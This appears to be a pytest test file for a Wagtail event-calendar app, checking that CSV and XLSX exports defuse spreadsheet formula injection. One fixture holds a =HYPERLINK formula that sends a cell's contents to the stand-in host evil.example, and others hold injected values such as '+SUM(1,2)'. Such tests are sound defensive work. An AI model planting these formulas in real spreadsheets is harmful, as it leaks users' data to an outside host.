"""No CSV the admin writes carries a live spreadsheet formula; XLSX stays
safe too (issue 18, item 5)."""

import csv
import io

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from wagtail_eventcal.exports import neutralise

from .factories import jst, make_event, make_organization
from .review_helpers import Cast

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_prefixed(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_and_numbers_are_left_alone():
    assert neutralise("Seminar = talk") == "Seminar = talk"
    assert neutralise(-2) == -2
    assert neutralise(None) is None


@pytest.fixture
def submitted(calendar):
    cast = Cast(calendar)
    cast.ministry.name_ja = "+SUM(1,2)"
    cast.ministry.save()
    cast.submitter.first_name, cast.submitter.last_name = "@cmd", "-x"
    cast.submitter.save()
    event = make_event(calendar, organizations=[cast.ministry], publish=False, title=EVIL_TITLE)
    with time_machine.travel(jst(2026, 11, 16, 10, 0), tick=False):
        event.get_workflow().start(event, cast.submitter)
    return cast, event


def test_open_submissions_csv_neutralises_user_typed_cells(client, submitted):
    cast, _event = submitted
    client.force_login(cast.reviewer)
    rows = csv_rows(client.get(reverse("eventcal_review:open"), {"export": "csv"}))
    event_row = rows[1]
    assert event_row[0] == "'" + EVIL_TITLE
    assert event_row[1] == "'+SUM(1,2)"
    assert event_row[2].startswith("'@cmd")
    # Only numbers (business days left, negative when overdue) start with "-".
    risky = [c for row in rows for c in row if c.startswith(("=", "+", "-", "@"))]
    assert all(c.lstrip("-").isdigit() for c in risky), risky


def test_open_submissions_xlsx_keeps_formulas_as_text(client, submitted):
    cast, _event = submitted
    client.force_login(cast.reviewer)
    response = client.get(reverse("eventcal_review:open"), {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cell = workbook.active["A2"]
    assert cell.value == EVIL_TITLE  # shown as typed …
    assert cell.data_type == "s"  # … but a string, never a formula


def test_organization_registry_csv(admin_client):
    make_organization(name_ja="=1+1", name_en="-2")
    response = admin_client.get("/admin/snippets/wagtail_eventcal/organization/", {"export": "csv"})
    rows = csv_rows(response)
    assert rows[1][:2] == ["'=1+1", "'-2"]


def test_wagtails_own_workflow_report_csv(client, submitted):
    # Wagtail's reports list event titles too: the hook covers them.
    cast, _event = submitted
    client.force_login(cast.reviewer)
    cast.reviewer.is_superuser = True
    cast.reviewer.save()
    rows = csv_rows(client.get(reverse("wagtailadmin_reports:workflow"), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL_TITLE in cells
    assert EVIL_TITLE not in cells
